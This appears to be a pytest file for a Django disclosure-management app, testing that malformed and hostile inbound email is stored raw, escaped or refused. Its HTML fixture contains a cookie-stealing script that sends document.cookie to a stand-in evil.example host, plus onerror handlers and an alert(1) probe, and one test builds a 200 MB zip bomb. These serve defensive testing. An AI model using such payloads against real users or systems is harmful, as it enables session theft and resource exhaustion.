"""Malformed and hostile mail (issue 17 item 7): kept raw and shown escaped,
or refused with a reason; one bad message never stops the others."""

import hashlib
import io
import mailbox
import zipfile
from email.message import EmailMessage

import pytest
from django.urls import reverse

from disclosure.cases.stages import Stage
from disclosure.comms.fetch import fetch_mail
from disclosure.comms.inbound import ingest
from disclosure.comms.models import Communication, InboundMessage
from disclosure.evidence.models import EvidenceFile
from disclosure.evidence.storage import open_blob
from tests.comms.test_inbound import mail
from tests.factories import make_case

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _mail_settings(settings, tmp_path):
    settings.DISCLOSURE_REPLY_ADDRESS = "disclosure+{reference}@firm.example"
    settings.DISCLOSURE_MAILDIR = str(tmp_path / "inbox")
    settings.DISCLOSURE_IMAP_URL = ""


@pytest.fixture
def case(analyst, vendor):
    return make_case(Stage.VENDOR_NOTIFIED, actor=analyst, vendor=vendor)


def head(case, extra: str = "", ctype: str = "text/plain; charset=utf-8") -> bytes:
    return (
        f"From: security@contoso.example\nTo: disclosure@firm.example\n"
        f"Subject: [{case.reference}] odd\nDate: Tue, 1 Dec 2026 10:00:00 +0000\n"
        f"Message-ID: <odd-{hashlib.sha256(extra.encode()).hexdigest()[:8]}@contoso.example>\n"
        f"MIME-Version: 1.0\nContent-Type: {ctype}\n{extra}\n"
    ).encode()


def raw_of(row: InboundMessage) -> bytes:
    with open_blob(row.raw_sha256) as f:
        return f.read()


def test_broken_mime_is_kept_raw_and_read_best_effort(case):
    raw = head(case, ctype='multipart/mixed; boundary="never-used"') + (
        b"no boundary ever appears\n\n--other\nContent-Type: text/plain\n\nhello\n"
    )
    row = ingest(raw, source="m")
    assert row.status == "matched"
    assert "Malformed MIME" in row.problem
    assert raw_of(row) == raw
    assert row.communication.raw_message.sha256 == hashlib.sha256(raw).hexdigest()


def test_an_unknown_charset_and_raw_8bit_headers(case):
    raw = (
        head(case, "X-Note: caf\xe9\n", "text/plain; charset=x-no-such-charset").replace(
            b"caf\\xe9", b"caf\xe9"
        )
        + b"Gr\xfc\xdfe aus K\xf6ln\n"
    )
    raw = raw.replace(b"] odd", b"] caf\xe9 \xff")
    row = ingest(raw, source="m")
    comm = row.communication
    assert row.status == "matched"
    assert "\ufffd" in comm.subject  # undecodable bytes shown as replacement characters
    assert comm.body.startswith("Gr")
    assert raw_of(row) == raw


def test_bad_base64_is_kept(case):
    raw = head(case, ctype='multipart/mixed; boundary="b"') + (
        b"--b\nContent-Type: text/plain\n\nsee attached\n"
        b"--b\nContent-Type: application/pdf\nContent-Transfer-Encoding: base64\n"
        b'Content-Disposition: attachment; filename="r.pdf"\n\n!!!not*base64***\n--b--\n'
    )
    row = ingest(raw, source="m")
    assert row.status == "matched"
    assert raw_of(row) == raw
    assert row.communication.body == "see attached"  # the newline belongs to the boundary


def test_nul_bytes_never_reach_the_database(case):
    raw = head(case) + b"before\x00after\n"
    raw = raw.replace(b"] odd", b"] o\x00dd")
    comm = ingest(raw, source="m").communication
    assert comm.body == "beforeafter\n"
    assert comm.subject == f"[{case.reference}] odd"
    assert comm.raw_message.sha256 == hashlib.sha256(raw).hexdigest()


def test_absurd_headers_are_cut_to_fit(case):
    many = ", ".join(f"r{i}@contoso.example" for i in range(2000))
    raw = head(case, f"X-Huge: {'x' * 200_000}\n").replace(
        b"To: disclosure@firm.example", f"To: {many}".encode()
    )
    raw = raw.replace(b"] odd", b"] " + b"long " * 400)
    row = ingest(raw, source="m")
    comm = row.communication
    assert row.status == "matched"
    assert len(comm.recipients) == 500
    assert len(comm.subject) == 500
    assert raw_of(row) == raw


def test_not_a_message_at_all_is_kept_for_triage():
    raw = b"\x00\x01\x02 binary junk \xff\xfe"
    row = ingest(raw, source="m")
    assert row.status == "unmatched"
    assert "none of the usual headers" in row.problem
    assert row.message_id == f"<{hashlib.sha256(raw).hexdigest()}@inbound.invalid>"
    assert raw_of(row) == raw


def test_an_empty_message_is_refused():
    row = ingest(b"  \n", source="m")
    assert (row.status, row.problem) == ("refused", "The message is empty.")


def big_attachment_mail(case, size: int) -> tuple[bytes, bytes]:
    content = (b"0123456789abcdef" * (size // 16 + 1))[:size]
    msg = EmailMessage()
    msg["From"] = "security@contoso.example"
    msg["To"] = "disclosure@firm.example"
    msg["Subject"] = f"[{case.reference}] the full dump"
    msg["Message-ID"] = f"<big-{size}@contoso.example>"
    msg.set_content("Attached.")
    msg.add_attachment(content, maintype="application", subtype="octet-stream", filename="d.bin")
    return bytes(msg), content


def test_a_50_mb_attachment_is_kept_under_the_cap(case, settings):
    assert settings.DISCLOSURE_MAIL_MAX_BYTES == 80 * 1000 * 1000
    raw, content = big_attachment_mail(case, 50 * 1000 * 1000)
    comm = ingest(raw, source="m").communication
    [attachment] = comm.attachments.all()
    assert attachment.size == 50 * 1000 * 1000
    assert attachment.sha256 == hashlib.sha256(content).hexdigest()


def test_a_50_mb_attachment_over_a_lower_cap_is_refused(case, settings):
    settings.DISCLOSURE_MAIL_MAX_BYTES = 10 * 1000 * 1000
    raw, _ = big_attachment_mail(case, 50 * 1000 * 1000)
    row = ingest(raw, source="m")
    assert row.status == "refused"
    assert row.problem == f"The message is {len(raw):,} bytes, more than the 10,000,000 allowed."
    assert row.message_id == "<big-50000000@contoso.example>"
    assert Communication.objects.filter(case=case, direction="inbound").count() == 0


def test_a_zip_bomb_is_stored_as_it_came_never_unpacked(case):
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as z,
        z.open("bomb.bin", "w") as member,  # 200 MB unpacked, written 1 MB at a time
    ):
        for _ in range(200):
            member.write(bytes(1000 * 1000))
    bomb = buffer.getvalue()
    assert len(bomb) < 1_000_000
    raw = mail(
        subject=f"[{case.reference}] logs", attachments=[("logs.zip", bomb, "application/zip")]
    )
    comm = ingest(raw, source="m").communication
    [attachment] = comm.attachments.all()
    assert (attachment.size, attachment.sha256) == (len(bomb), hashlib.sha256(bomb).hexdigest())
    assert attachment.content_type == "application/zip"
    assert EvidenceFile.objects.filter(case=case, original_name="bomb.bin").count() == 0


HTML = b"""\
From: security@contoso.example
To: disclosure@firm.example
Subject: [%s] html
Message-ID: <html-1@contoso.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><script>document.location='https://evil.example/'+document.cookie</script>
<style>p{color:red}</style></head><body onload="steal()">
<p>We fixed it. &lt;script&gt;alert(1)&lt;/script&gt;</p><img src=x onerror="steal()"></body></html>
"""


def test_html_with_script_is_text_only_and_shown_escaped(case, analyst, client):
    comm = ingest(HTML % case.reference.encode(), source="m").communication
    assert "document.cookie" not in comm.body
    assert "steal()" not in comm.body
    assert comm.body == "We fixed it. <script>alert(1)</script>"
    client.force_login(analyst)
    url = reverse("staff:case_tab", kwargs={"reference": case.reference, "tab": "communications"})
    page = client.get(url).content.decode()
    assert "We fixed it. &lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script>alert(1)" not in page
    assert "document.cookie" not in page


def test_one_bad_message_among_good_ones(case, settings):
    root = settings.DISCLOSURE_MAILDIR
    box = mailbox.Maildir(root, create=True)
    settings.DISCLOSURE_MAIL_MAX_BYTES = 50_000
    box.add(mailbox.MaildirMessage(mail(subject=f"[{case.reference}] one", message_id="<g1@c>")))
    box.add(mailbox.MaildirMessage(b"\x00\xff garbage"))
    box.add(mailbox.MaildirMessage(head(case, ctype='multipart/mixed; boundary="x"') + b"--x\n"))
    box.add(mailbox.MaildirMessage(mail(subject="huge", message_id="<h@c>", body="x" * 60_000)))
    box.add(mailbox.MaildirMessage(mail(subject=f"[{case.reference}] two", message_id="<g2@c>")))
    result = fetch_mail()
    counts = result.sources[f"maildir:{root}"]
    assert counts.as_dict() == {
        "matched": 3, "unmatched": 1, "duplicates": 0, "refused": 1, "errors": 0,
    }  # fmt: skip
    subjects = set(
        Communication.objects.filter(case=case, direction="inbound").values_list(
            "subject", flat=True
        )
    )
    assert {f"[{case.reference}] one", f"[{case.reference}] two"} <= subjects


def test_a_message_id_with_control_characters_is_replaced_by_the_hash(case):
    raw = head(case).replace(b"Message-ID: <odd-", b"Message-ID: <o\x00dd-")
    row = ingest(raw, source="m")
    assert row.message_id == f"<{hashlib.sha256(raw).hexdigest()}@inbound.invalid>"
    assert row.status == "matched"
